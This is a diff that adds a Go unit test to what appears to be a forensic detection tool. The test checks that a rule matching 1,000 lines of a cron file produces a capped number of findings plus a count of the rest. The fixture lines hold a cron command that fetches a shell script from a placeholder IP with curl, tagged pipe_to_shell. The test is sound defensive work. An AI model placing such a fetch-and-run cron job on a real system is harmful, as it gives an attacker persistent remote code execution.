@@ -254,6 +254,29 @@ func TestJoined(t *testing.T) {
 	}
 }
 
+// TestManyLines: a rule that matches very many lines of one file gives a bounded number
+// of findings, and the last tells how many lines it stands for.
+func TestManyLines(t *testing.T) {
+	const lines = 1000
+	var s scene
+	for i := range lines {
+		r := record(t, fmt.Sprintf("cron.job traits=pipe_to_shell; command=curl -s http://203.0.113.7/%d.sh", i))
+		r.Source = artifact.Source{Volume: "p1", Path: "/etc/cron.d/x", Inode: 12, Line: i + 1}
+		s.records = append(s.records, r)
+	}
+	res := s.run(t)
+	var told []string
+	for _, f := range res.Findings {
+		if _, more, ok := strings.Cut(f.Description, " There "); ok {
+			told = append(told, more)
+		}
+	}
+	want := fmt.Sprintf("are %d more such lines in this file; the records name the first %d.", lines-maxPerFile, maxListed)
+	if len(res.Findings) != maxPerFile || len(told) != 1 || told[0] != want {
+		t.Errorf("%d findings, %q, want %d, %q", len(res.Findings), told, maxPerFile, want)
+	}
+}
+
 func TestVerdict(t *testing.T) {
 	f := func(l Level, path string, minute int) Finding {
 		return Finding{Level: l, Rule: path, Phase: PhasePersistence, Time: noon.Add(time.Duration(minute) * time.Minute), Source: artifact.Source{Volume: "p1", Path: path}}
